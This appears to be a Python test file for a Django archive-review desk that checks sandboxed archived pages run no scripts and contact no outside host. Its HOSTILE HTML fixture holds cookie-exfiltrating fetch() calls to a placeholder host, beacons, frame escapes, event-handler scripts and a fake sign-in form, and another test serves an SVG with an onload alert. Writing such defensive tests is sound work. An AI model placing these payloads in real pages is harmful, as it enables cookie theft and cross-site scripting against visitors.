"""An archived copy is another's page: opened by staff, it runs nothing, reaches nothing and learns nothing."""

import socket
import threading
from collections.abc import Iterator
from contextlib import closing, suppress

import pytest
from django.urls import reverse
from playwright.sync_api import Browser, expect

from accounts.models import User
from sources.models import Snapshot, Source
from tests.claims.factories import a_source
from tests.desk.test_in_chromium import at_the_desk
from tests.sources.archived import a_copy, a_snapshot, kept

pytestmark = pytest.mark.django_db(transaction=True)

HOSTILE = """<!doctype html><html><head>
<meta http-equiv="refresh" content="0; url=http://{host}/refresh">
<base href="http://{host}/base/">
<link rel="stylesheet" href="http://{host}/style.css"><link rel="icon" href="http://{host}/icon.png">
<link rel="preconnect" href="http://{host}"><link rel="dns-prefetch" href="http://{host}">
<link rel="preload" as="image" href="http://{host}/preload.png"><link rel="prefetch" href="http://{host}/prefetch">
<link rel="modulepreload" href="http://{host}/module.js"><link rel="manifest" href="http://{host}/manifest">
<link rel="prerender" href="http://{host}/prerender">
<script type="speculationrules">{{"prefetch": [{{"urls": ["http://{host}/speculated"]}}]}}</script>
<style>@import "http://{host}/import.css"; @font-face {{ font-family: x; src: url(http://{host}/font.woff2) }}
body {{ background: url(http://{host}/background.png); font-family: x; color: rgb(1, 2, 3) }}
#cover {{ cursor: url(http://{host}/cursor.png), auto }}</style>
<script src="http://{host}/script.js"></script>
<script>document.title = "ran"; fetch("http://{host}/" + document.cookie); navigator.sendBeacon("http://{host}/beacon");
new Image().src = "http://{host}/image"; top.location = "http://{host}/top"; new WebSocket("ws://{host}/socket");</script>
</head><body onload="document.title = 'ran'">
<p id="words">What the page says.</p>
<img src="http://{host}/image.png" onerror="document.title = 'ran'" srcset="http://{host}/image2.png 2x">
<img src="http://{host}/image3.png" attributionsrc="http://{host}/attribution">
<img src="/static/desk.css"><img src="x" onerror="document.title = 'ran'">
<noscript><link rel="preconnect" href="http://{host}"><img src="http://{host}/noscript.png"></noscript>
<iframe src="http://{host}/frame"></iframe><iframe srcdoc="<script>top.document.title = 'ran'</script>"></iframe>
<iframe srcdoc="&lt;iframe src='http://{host}/nested'&gt;&lt;/iframe&gt;"></iframe><iframe src="/desk/"></iframe>
<object data="http://{host}/object"></object><embed src="http://{host}/embed">
<video src="http://{host}/video" autoplay poster="http://{host}/poster"></video>
<audio src="http://{host}/audio" autoplay></audio>
<svg xmlns="http://www.w3.org/2000/svg"><script>document.title = "ran"</script><image href="http://{host}/svg.png"/>
<use href="http://{host}/sprite.svg#x"/><animate onbegin="document.title = 'ran'" attributeName="x" dur="1s"/></svg>
<form id="form" action="http://{host}/form" method="post">
<input name="password" autofocus onfocus="document.title = 'ran'">
<button id="submit">Sign in</button></form>
<form action="/desk/logout/" method="post"><button id="logout">Go on</button></form>
<a id="javascript" href="javascript:document.title='ran'">one</a>
<a id="popup" href="http://{host}/popup" target="_blank" ping="http://{host}/ping">two</a>
<a id="top" href="http://{host}/top" target="_top">three</a>
<a id="link" href="http://{host}/link">four</a>
<a id="desk" href="/desk/" target="_parent">five</a>
</body></html>"""


def body_url(snapshot: Snapshot) -> str:
    return reverse("admin:sources_snapshot_body", args=[snapshot.pk])


@pytest.fixture
def listener() -> Iterator[tuple[str, list[object]]]:
    """A host, and the connections to it: each counts, whether something is asked or not."""
    asked: list[object] = []
    with closing(socket.create_server(("127.0.0.1", 0))) as server:

        def listen() -> None:
            with suppress(OSError):  # it was closed
                while True:
                    connection, address = server.accept()
                    asked.append(address)
                    connection.close()

        threading.Thread(target=listen, daemon=True).start()
        yield f"127.0.0.1:{server.getsockname()[1]}", asked


@pytest.mark.browser
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_hostile_page_runs_nothing_and_asks_no_host_whatever_is_clicked(
    browser: Browser, live_server, listener: tuple[str, list[object]], encoding: str
) -> None:
    host, asked = listener
    snapshot = kept(HOSTILE.format(host=host).encode(encoding))
    page = at_the_desk(browser, live_server, "reviewer")
    page.goto(reverse("admin:sources_snapshot_view", args=[snapshot.pk]))
    page.get_by_role("link", name="Open the archived copy").click()
    opened = page.url
    frame = page.frame_locator("iframe.desk-archived-page")
    expect(frame.locator("#words")).to_have_css("color", "rgb(1, 2, 3)")  # it is shown as it was, with its own style
    title = page.title()
    for name in ("submit", "logout", "javascript", "popup", "top", "link", "desk"):
        frame.locator(f"#{name}").click()
    page.wait_for_timeout(500)
    expect(frame.locator("#words")).to_be_visible()
    assert (page.url, page.title(), len(page.context.pages)) == (opened, title, 1)
    alone = page.context.new_page()  # without the frame, by its own address
    alone.goto(live_server.url + body_url(snapshot))
    alone.wait_for_timeout(500)
    for name in ("submit", "logout", "javascript", "popup", "link"):
        alone.locator(f"#{name}").click()
    alone.wait_for_timeout(500)
    assert alone.title() == ""
    assert alone.url == live_server.url + body_url(snapshot)
    assert asked == []
    assert page.goto("/desk/").url.endswith("/desk/")  # and nobody was signed out


def test_a_page_is_sent_with_a_policy_that_lets_it_do_nothing_and_other_files_are_downloaded(
    desk, reviewer: User
) -> None:
    client = desk(reviewer)
    page = client.get(body_url(kept("<p>Él dijo: <a href=x>no</a></p>".encode("cp1252"))))
    assert page.content.decode() == "<p>Él dijo: <no-a href=x>no</a></p>"
    attack = kept(b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", media_type="image/svg+xml")
    Source.objects.filter(pk=attack.source_id).update(slug="river")
    drawing = client.get(body_url(attack))
    assert b"".join(drawing).startswith(b"<svg")
    assert drawing["Content-Disposition"] == f'attachment; filename="river-{attack}.svg"'
    assert drawing["Content-Type"] == "application/octet-stream"
    for response in (page, drawing):
        assert response["Content-Security-Policy"].startswith("sandbox; default-src 'none';")
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Referrer-Policy"] == "no-referrer"
        assert response["Cross-Origin-Resource-Policy"] == "same-origin"
        assert "no-store" in response["Cache-Control"]
        assert not response.cookies
    around = client.get(reverse("admin:sources_snapshot_copy", args=[attack.pk - 1]))
    assert around["Content-Security-Policy"].endswith("; frame-src 'self'")


@pytest.mark.parametrize("media_type", ["text/html", "application/pdf"])
def test_a_copy_whose_file_is_lost_is_said_to_be_missing(desk, reviewer: User, media_type: str) -> None:
    response = desk(reviewer).get(body_url(a_snapshot(copy=a_copy(media_type=media_type))))
    assert response.status_code == 404
    by_hand = a_source().snapshots.get()
    assert desk(reviewer).get(body_url(by_hand)).status_code == 404


@pytest.mark.browser
def test_an_archived_page_that_may_run_scripts_would_be_found_out(
    browser: Browser, live_server, listener: tuple[str, list[object]]
) -> None:
    """Without the sandbox the page asks and runs, so that the test above can fail."""
    host, asked = listener
    page = browser.new_page()
    page.set_content(HOSTILE.format(host=host).replace("refresh", "ignored"), wait_until="commit")
    expect(page).to_have_title("ran")
    assert asked != []
